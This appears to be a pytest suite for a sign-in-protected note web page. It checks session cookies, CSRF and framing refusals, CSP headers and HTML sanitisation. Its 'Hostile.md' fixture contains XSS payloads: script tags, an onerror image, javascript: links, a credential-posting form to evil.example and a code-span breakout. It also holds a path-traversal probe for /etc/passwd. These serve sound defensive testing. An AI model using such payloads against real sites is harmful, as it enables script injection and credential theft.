"""The page of a note behind sign-in: who may read it, what it says, and what nobody can make it do."""

from __future__ import annotations

import re
import socket
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote, urlencode

import pytest

from support.chromium import in_browser, open_tab
from support.serving import Reply, Serving
from support.sign_in import PASSWORD, URL
from support.vaults import write_vault
from vaultwire.remote import people
from vaultwire.remote.note_pages import address_of
from vaultwire.remote.store import SESSION_SECONDS, Store

NOTES = """=== Garden/Tomatoes & more.md
---
kind: "<i>vegetable</i>"
---
# Tomatoes
Water them. [[Pruning|How to prune]], [[Diary]], [[Nowhere]], ![[plan.png]], #garden

- [x] sown
- [ ] planted

> [!tip] Early
> In the morning.

| a | b |
|---|---|
| 1 | 2 |
=== Garden/Pruning.md
See [[Tomatoes & more]].
=== Hostile.md
---
x: "<script>document.title='ran'</script>"
---
<script>document.title = 'ran'</script>
<img src=https://evil.example/pixel onerror="document.title='ran'">
![pixel](https://evil.example/pixel.png)
[click](javascript:document.title='ran') [data](data:text/html,hi) [out](https://example.org/a?b=1&c="x")
<form action=https://evil.example><input name=password></form>
[command](obsidian://advanced-uri?vault=x&eval=1)
`</code></pre><script>document.title='ran'</script>`
=== Diary.md
SECRET
=== plan.png
PNG
"""
POLICY = """[paths]
deny = ["Diary.md"]
[clients.Ben]
deny = ["read_*"]
"""


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Serving]:
    root = tmp_path_factory.mktemp("pages")
    vault = write_vault(root / "My notes", NOTES)
    (root / "policy.toml").write_text(POLICY)
    new_state(root / "state")
    policy = ("--policy", str(root / "policy.toml"))
    with Serving(vault, "--public-url", URL, *policy, VAULTWIRE_STATE=str(root / "state")) as started:
        yield started


def new_state(state: Path) -> None:
    state.mkdir()
    store = Store(str(state / "sign-in"))
    for name in ("Ana", "Ben"):
        people.add(store, name, PASSWORD)
    store.close()


def page_of(path: str, vault: str = "My notes") -> str:
    return address_of("", vault, path)


class Person:
    """A person's browser, without what it shows."""

    def __init__(self, server: Serving) -> None:
        self._server = server
        self.cookie = ""

    def get(self, address: str, **headers: str) -> Reply:
        kept = {"cookie": self.cookie} if self.cookie else {}
        return self._server.request("GET", address, None, host="notes.example.org", **kept, **headers)

    def submit(self, address: str, origin: str = URL, **fields: str) -> Reply:
        headers = {"content_type": "application/x-www-form-urlencoded", "host": "notes.example.org", "origin": origin}
        headers |= {"cookie": self.cookie} if self.cookie else {}
        reply = self._server.request("POST", address, urlencode(fields).encode(), **headers)
        self.cookie = reply.headers.get("set-cookie", self.cookie).partition(";")[0]
        return reply

    def sign_in(self, address: str, password: str = PASSWORD, name: str = "Ana") -> Reply:
        return self.submit(address, step="sign-in", name=name, password=password)


@pytest.fixture
def person(server: Serving) -> Person:
    person = Person(server)
    assert person.sign_in(page_of("Hostile.md")).status == 303
    return person


# ---------------------------------------------------------------------- who may read


@pytest.mark.parametrize("path", ["Garden/Pruning.md", "Diary.md", "Nowhere.md", ""])
def test_nobody_learns_what_there_is_without_signing_in(server: Serving, path: str) -> None:
    reply = Person(server).get(page_of(path))
    assert reply.status == 401
    assert reply.body == Person(server).get(page_of("Garden/Pruning.md")).body


def test_who_signs_in_is_led_back_to_the_note_and_reads_it(server: Serving) -> None:
    person = Person(server)
    address = page_of("Garden/Tomatoes & more.md")
    reply = person.sign_in(address)
    assert (reply.status, reply.headers["location"]) == (303, address)
    cookie = reply.headers["set-cookie"]
    for part in ("Path=/n", "HttpOnly", "Secure", "SameSite=Lax", f"Max-Age={SESSION_SECONDS}"):
        assert f"; {part}" in cookie
    page = person.get(address)
    assert page.status == 200
    text = page.body.decode()
    assert "<h1>Tomatoes &amp; more</h1>" in text
    assert "&lt;i&gt;vegetable&lt;/i&gt;" in text
    link = quote("Garden/Pruning.md")
    assert f'<a href="/n/My%20notes/{link}"' in text
    assert "obsidian://open?vault=My%20notes&amp;file=Garden%2FTomatoes%20%26%20more.md" in text
    assert "Links to this note: 1" in text
    assert page.headers["cache-control"] == "no-store"


def test_a_hidden_note_is_as_if_it_were_not_there(person: Person) -> None:
    hidden, missing = person.get(page_of("Diary.md")), person.get(page_of("Nowhere.md"))
    assert (hidden.status, hidden.body) == (404, missing.body)
    link = re.findall(
        r'<span class="missing"[^>]*>([^<]*)<', person.get(page_of("Garden/Tomatoes & more.md")).body.decode()
    )
    assert link == ["Diary", "Nowhere"]


@pytest.mark.parametrize(
    "address",
    [
        "/n",
        "/n/",
        "/n/My%20notes",
        "/n/Other/Hostile.md",
        "/n/My%20notes/%FF.md",
        "/n/My%20notes/..%2F..%2Fetc%2Fpasswd",
    ],
)
def test_an_address_without_a_note_is_404(person: Person, address: str) -> None:
    assert person.get(address).status == 404


def test_a_wrong_password_opens_nothing(server: Serving) -> None:
    person = Person(server)
    reply = person.sign_in(page_of("Hostile.md"), "wrong horse battery")
    assert reply.status == 403
    assert "set-cookie" not in reply.headers
    assert person.get(page_of("Hostile.md")).status == 401


def test_signing_out_ends_the_cookie_itself(server: Serving, person: Person) -> None:
    kept = Person(server)
    kept.cookie = person.cookie
    assert kept.get(page_of("Hostile.md")).status == 200
    reply = person.submit(page_of("Hostile.md"), step="sign-out")
    assert "Max-Age=0" in reply.headers["set-cookie"]
    assert kept.get(page_of("Hostile.md")).status == 401


@pytest.mark.parametrize("ended_by", ["expiry", "removal", "password"])
def test_a_session_ends_with_its_time_its_person_and_the_password(tmp_path: Path, ended_by: str) -> None:
    now = 1_000_000.0
    store = Store(str(tmp_path / "sign-in"), lambda: now)
    store.add_person("Ana", "hash")
    session = store.new_session("Ana")
    assert store.person_of_session(session) == "Ana"
    if ended_by == "expiry":
        now += SESSION_SECONDS
    elif ended_by == "removal":
        store.remove_person("Ana")
        store.add_person("Ana", "hash")
    else:
        store.set_password("ana", "another hash")
    assert store.person_of_session(session) is None
    store.close()


def test_the_cookie_opens_nothing_else(person: Person) -> None:
    for address in ("/mcp", "/bridge/v1/tools", "/desk/"):
        assert person.get(address).status == 401


# ---------------------------------------------------------------------- other sites


@pytest.mark.parametrize("part", ["iframe", "script", "image", "empty", "object", "embed"])
def test_another_page_cannot_take_it_as_a_part(person: Person, part: str) -> None:
    for site in ("cross-site", "same-site"):
        assert person.get(page_of("Hostile.md"), sec_fetch_dest=part, sec_fetch_site=site).status == 403
    # A link in an assistant's answer.
    assert person.get(page_of("Hostile.md"), sec_fetch_dest="document", sec_fetch_site="cross-site").status == 200


def test_another_page_cannot_read_it_by_script(person: Person) -> None:
    reply = person.get(page_of("Hostile.md"), origin="https://evil.example")
    assert reply.status == 403
    assert "access-control-allow-origin" not in reply.headers


@pytest.mark.parametrize("origin", ["https://evil.example", "null"])
@pytest.mark.parametrize("step", ["sign-in", "sign-out"])
def test_a_form_of_another_page_is_refused(server: Serving, person: Person, origin: str, step: str) -> None:
    before = person.cookie
    reply = person.submit(page_of("Hostile.md"), origin, step=step, name="Ana", password=PASSWORD)
    assert (reply.status, person.cookie) == (403, before)
    assert person.get(page_of("Hostile.md")).status == 200


def test_the_page_may_do_nothing(person: Person) -> None:
    for address in (page_of("Hostile.md"), page_of("Nowhere.md")):
        headers = person.get(address).headers
        policy = headers["content-security-policy"]
        assert policy.startswith("default-src 'none'; style-src 'sha256-")
        assert "frame-ancestors 'none'" in policy
        for word in ("unsafe", "script-src", "img-src", "connect-src"):
            assert word not in policy
        assert headers["x-frame-options"] == "DENY"
        assert headers["cross-origin-resource-policy"] == "same-origin"
        assert headers["referrer-policy"] == "same-origin"


def test_a_hostile_note_becomes_text(person: Person) -> None:
    page = person.get(page_of("Hostile.md")).body.decode()
    assert "SECRET" not in page
    assert set(re.findall(r"<(\w+)", page.partition("<article>")[2].partition("</article>")[0])) <= {
        "table", "tbody", "tr", "th", "td", "p", "a", "span", "br", "code",
    }  # fmt: skip
    addresses = re.findall(r'href="([^"]*)"', page)
    assert [each for each in addresses if each.startswith(("javascript:", "data:", "obsidian://adv"))] == []
    assert ' onerror="' not in page


# ---------------------------------------------------------------------- in a browser


@pytest.fixture(scope="module")
def here(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Serving]:
    """A server whose public URL is where it listens, so that a browser can go there."""
    root = tmp_path_factory.mktemp("here")
    vault = write_vault(root / "My notes", NOTES)
    new_state(root / "state")
    with socket.create_server(("127.0.0.1", 0)) as free:
        port = free.getsockname()[1]
    options = ("--port", str(port), "--public-url", f"http://127.0.0.1:{port}")
    with Serving(vault, *options, VAULTWIRE_STATE=str(root / "state")) as started:
        yield started


@in_browser
def test_a_person_reads_notes_on_a_phone(here: Serving) -> None:
    with open_tab() as tab:
        tab.resize(360, 760)
        tab.go(here.url + page_of("Hostile.md"))
        tab.shoot("note-sign-in-360")
        tab.click("input[name=name]")
        tab.type("Ana")
        tab.click("input[name=password]")
        tab.type(PASSWORD)
        tab.click("button", "Sign in")
        tab.wait_for("document.querySelector('article')")
        assert tab.evaluate("document.title") == "Hostile"
        assert not [address for address in tab.requested if "evil" in address]
        for width in (360, 1280):
            tab.resize(width, 760)
            for path in ("Hostile.md", "Garden/Tomatoes & more.md", "Nowhere.md"):
                tab.go(here.url + page_of(path))
                assert tab.evaluate("document.documentElement.scrollWidth <= innerWidth")
                tab.shoot(f"note-{path[:4]}-{width}")
        tab.go(here.url + page_of("Garden/Tomatoes & more.md"))
        tab.click("a", "How to prune")
        tab.wait_for("document.title === 'Pruning'")
        tab.click("button", "Sign out Ana")
        tab.wait_for("document.querySelector('input[name=password]')")
